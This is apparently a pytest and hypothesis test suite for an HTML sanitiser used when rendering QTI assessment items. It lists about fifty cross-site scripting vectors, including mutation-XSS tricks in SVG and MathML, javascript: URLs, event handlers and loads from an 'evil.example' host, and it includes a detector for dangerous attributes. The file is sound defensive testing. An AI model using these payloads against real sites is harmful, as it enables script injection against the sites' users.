"""Nothing that acts gets through either fence: scripts, events, styles, frames, forms, foreign addresses."""

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from item_bank.qti.render import sanitised
from item_bank.qti.render.mathml import TAGS as MATH
from item_bank.qti.render.sanitising import HTML_TAGS, SVG_TAGS
from tests.item_bank.qti.render.html import item, shown, tree

XSS = [
    "<script>alert(1)</script>",
    '<p onclick="alert(1)">a</p>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="https://evil.example/x 1x" src="//evil.example/x">',
    '<img src="https://evil.example/x">',
    '<img src="/\\evil.example/x">',
    '<p style="background:url(javascript:alert(1))">a</p>',
    "<style>@import url(https://evil.example/x)</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x">',
    '<form action="https://evil.example"><input name="x"><button formaction="https://evil.example">b</button></form>',
    '<button type="submit" form="f" formaction="javascript:alert(1)">b</button>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><rect/></a></svg>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml,x#y"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<math><maction actiontype='statusline#https://evil.example'><mi>x</mi></maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<video poster='javascript:alert(1)' src='https://evil.example/x' onplay='alert(1)' autoplay></video>",
    "<audio src='data:audio/wav;base64,x'></audio>",
    "<input type='image' src='https://evil.example/x' autofocus onfocus=alert(1)>",
    "<details ontoggle=alert(1) open><summary>s</summary></details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id='a' name='getElementById'>a</p>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]
ELSEWHERE = re.compile(r"^\s*([a-z][a-z0-9+.-]*:|//|\\|/\\)", re.IGNORECASE)


def dangers(html: str) -> list[str]:
    """What in a page could act, or fetch from somewhere else."""
    found: list[str] = []
    for each in tree(html).iter():
        if not isinstance(each.tag, str):
            found.append(f"comment {each}")
        elif each.tag not in HTML_TAGS | SVG_TAGS | MATH | {"html", "body"}:
            found.append(each.tag)
        else:
            found += [f"{each.tag} {name}={value}" for name, value in each.attrib.items() if _is_danger(each, name, value)]
    return found


def _is_danger(element: Any, name: str, value: str) -> bool:
    if name in ("href", "src", "poster"):
        return bool(ELSEWHERE.match(value)) or (name == "href" and not value.startswith("#") and element.tag == "a")
    return name.startswith("on") or name in (
        "style",
        "srcset",
        "srcdoc",
        "action",
        "formaction",
        "form",
        "xlink:href",
        "autoplay",
        "autofocus",
    )


@pytest.mark.parametrize("vector", XSS)
def test_the_second_fence_alone_stops_it(vector: str) -> None:
    clean = sanitised(vector)

    assert [danger for danger in dangers(clean) if not danger.startswith("a href")] == []
    assert sanitised(clean) == clean


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*XSS, "<math>", "<mtext>", "<svg>", "</svg>", "<table>", "<p>", "<select>", "</p>", "<mi>", "<title>", "<!--", "-->", "'"]
        ),
        max_size=5,
    )
)
def test_no_mixture_of_attacks_gets_through(parts: list[str]) -> None:
    clean = sanitised("".join(parts))

    assert [danger for danger in dangers(clean) if not danger.startswith("a href")] == []
    assert [danger for danger in dangers(sanitised(clean)) if not danger.startswith("a href")] == []


BODIES = [
    '<p onclick="alert(1)" style="color:red" class="evil qti-interaction qti-align-left" tabindex="0" contenteditable="true">a</p>',
    '<p><a href="https://evil.example" target="_blank">a</a><a href="javascript:alert(1)">b</a><a href="other.html">c</a></p>',
    '<p><img src="javascript:alert(1)" alt="a" onerror="alert(1)"/><img src="https://evil.example/x.png" alt="b"/></p>',
    '<p><img src="//evil.example/x.png" alt="b"/><img src="data:image/svg+xml,x" alt="c" srcset="https://evil.example/x 2x"/></p>',
    "<div><script>alert(1)</script><style>p {}</style></div>",
    '<div><iframe src="https://evil.example"/><embed src="x"/><form action="x"><input name="y"/></form></div>',
    '<div><base href="https://evil.example"/><meta name="x"/><link rel="stylesheet" href="x"/></div>',
    '<div><object data="https://evil.example/x.swf" type="application/x-flash"><param name="movie" value="x"/>words</object></div>',
    '<p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg></p>',
    '<p><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi onclick="alert(1)" style="x">x</mi>'
    '<annotation-xml encoding="text/html"><p xmlns="http://www.w3.org/1999/xhtml">&lt;script&gt;</p></annotation-xml></math></p>',
    '<p><m:math xmlns:m="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<m:mi xlink:href="javascript:alert(1)">x</m:mi><m:mtext><m:mglyph src="https://evil.example"/>y</m:mtext></m:math></p>',
    '<div><video src="https://evil.example/v.mp4" poster="javascript:alert(1)" autoplay="autoplay"/><audio src="data:audio/wav,x"/></div>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    '<div id="document" name="getElementById"><p id="cookie">a</p></div>',
    '<details ontoggle="alert(1)"><summary onclick="alert(1)">s</summary>x</details>',
]


@pytest.mark.parametrize("body", BODIES)
def test_nothing_that_an_author_writes_acts(body: str) -> None:
    for address in (lambda path: path, lambda path: f"/files/{path}", lambda path: None):
        html = shown(item(body), address=address)

        assert dangers(html) == []
        assert sanitised(html) == html


def test_the_second_fence_keeps_words_and_takes_the_rest() -> None:
    assert sanitised('<p onclick="x()">a<script>b</script><a href="javascript:c()">d</a></p>') == "<p>a<a>d</a></p>"


def test_authors_cannot_dress_as_a_part_of_the_page() -> None:
    html = shown(item('<div class="qti-interaction qti-layout-row evil qti-option"><p class="qti-align-center qti-feedback">a</p></div>'))

    assert '<div class="qti-layout-row"><p class="qti-align-center">a</p></div>' in html


def test_the_ids_of_authors_are_the_pages_own() -> None:
    html = shown(
        item('<table><tr><th id="h">H</th></tr><tr><td headers="h gone">x</td></tr></table><p><a href="#h">up</a><a href="#no">no</a></p>')
    )

    assert '<th id="q-named-1">H</th>' in html
    assert '<td headers="q-named-1">x</td>' in html
    assert '<p><a href="#q-named-1">up</a>no</p>' in html


@given(st.text(max_size=40))
def test_a_response_can_never_break_out_of_its_field(text: str) -> None:
    declared = '<qti-response-declaration identifier="RESPONSE" cardinality="single" base-type="string"/>'
    one = item('<p><qti-text-entry-interaction response-identifier="RESPONSE"/></p>', responses=declared)
    page = tree(shown(one, response={"RESPONSE": text}))

    assert [each.tag for each in page.iter()] == ["html", "body", "div", "div", "p", "span", "input"]
